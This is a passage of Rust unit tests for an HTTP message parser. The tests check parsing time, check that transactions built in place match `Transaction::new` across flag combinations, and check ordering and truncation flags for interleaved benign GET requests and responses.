        c.take(&mut t, &mut a);
        let t = unboxed(t);
        assert_eq!(mts(&t), vec![s("GET", "/slow", 200)]);
        // quadratic re-parsing of 20 KB a byte at a time is ~200M byte visits (seconds);
        // a single scan is well under a second even in a debug build
        assert!(per_byte < std::time::Duration::from_secs(2), "{per_byte:?}");
    }
}

/// The queue builds each transaction in its box (capfast6): what leaves must be what
/// `Transaction::new` made of the same messages.
#[cfg(test)]
mod boxed_tests {
    use super::*;

    fn msg(uri: &str, gap: bool, truncated: bool) -> Message {
        Message {
            uri: uri.into(),
            gap,
            truncated,
            ..Message::default()
        }
    }

    #[test]
    fn a_transaction_built_in_its_box_equals_the_one_new_builds() {
        let flags = [(false, false), (true, false), (false, true), (true, true)];
        let mut cases = 0;
        for q in [None, Some((false, false)), Some((true, false)), Some((false, true))] {
            for r in [None].into_iter().chain(flags.map(Some)) {
                for lost in [false, true] {
                    let q = q.map(|(g, t)| msg("/q", g, t));
                    let r = r.map(|(g, t)| msg("", g, t));
                    let want = Transaction::new(q.clone(), r.clone(), lost);
                    let mut e = Entry::new(ReqState::Done, ReqKind::Other);
                    e.tx.request = q;
                    e.tx.response = r;
                    let got = e.into_tx(lost);
                    assert_eq!(format!("{:?}", *got), format!("{want:?}"));
                    cases += 1;
                }
            }
        }
        assert_eq!(cases, 40);
    }

    #[test]
    fn boxed_transactions_keep_their_order_and_flags() {
        // requests and responses interleaved, one response cut short by the end of input
        let cfg = HttpConfig::default();
        let mut c = Conn::new(Some(0), &cfg);
        c.data(
            0,
            b"GET /a HTTP/1.1\r\nHost: h\r\n\r\nGET /b HTTP/1.1\r\nHost: h\r\n\r\n",
            1,
            None,
            &cfg,
        );
        c.data(1, b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok", 2, None, &cfg);
        c.data(1, b"HTTP/1.1 200 OK\r\nContent-Length: 9\r\n\r\nshort", 3, None, &cfg);
        c.flush(4, &cfg);
        let (mut t, mut a) = (vec![], vec![]);
        c.take(&mut t, &mut a);
        let got: Vec<_> = t
            .iter()
            .map(|t| (t.request.as_ref().map(|q| q.uri.clone()), t.gap, t.truncated))
            .collect();
        assert_eq!(
            got,
            vec![
                (Some("/a".to_string()), false, false),
                (Some("/b".to_string()), false, true)
            ]
        );
    }
}
